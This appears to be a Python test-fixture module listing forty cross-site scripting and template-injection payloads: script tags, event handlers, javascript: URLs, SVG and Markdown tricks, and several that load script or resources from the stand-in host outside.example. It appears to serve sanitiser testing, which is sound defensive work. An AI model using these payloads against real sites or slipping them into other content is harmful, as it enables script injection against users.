"""Forty ways to get a page to run somebody else's script or to call somebody else's server.

Each names ``ran``: ``alert`` or ``window.ran`` tell a test that it ran, a request to OUTSIDE that it called.
"""

from __future__ import annotations

OUTSIDE = "https://outside.example/"

PAYLOADS = (
    "<script>window.ran=1</script>",
    "<SCRIPT SRC=https://outside.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC='https://outside.example/pixel.gif'>",
    '<img src=x: alt="`><img src=y onerror=window.ran=1>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=https://outside.example/x.swf>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](javascript:alert(1))",
    "![x](https://outside.example/pixel.png)",
    "![x](x){onerror=alert(1)}",
    "<javascript:alert(1)>",
    "<form action=https://outside.example/><button autofocus onfocus=alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/'>",
    "<base href=https://outside.example/>",
    "<link rel=stylesheet href=https://outside.example/x.css>",
    "<style>@import 'https://outside.example/x.css';</style>",
    "<style>body{background:url(https://outside.example/x)}</style>",
    "\"'></style></title></textarea></details><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' style='animation-name:x' onanimationstart='alert(1)",
    "`${alert(1)}`",
    "{{constructor.constructor('window.ran=1')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\x3cvideo><source onerror=alert(1)></video><audio src=https://outside.example/x autoplay>",
    "$$\\href{javascript:alert(1)}{x}$$ \\unicode{<img src=x onerror=alert(1)>}",
)
